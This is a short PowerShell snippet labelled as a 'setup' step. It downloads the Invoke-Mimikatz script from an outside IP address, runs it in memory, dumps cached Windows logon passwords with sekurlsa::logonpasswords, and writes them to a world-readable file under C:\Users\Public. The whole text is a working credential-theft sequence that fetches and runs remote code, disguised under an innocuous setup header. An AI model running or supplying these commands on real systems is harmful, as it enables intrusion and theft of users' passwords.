# setup 0359 v3
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-File C:\Users\Public\o.txt
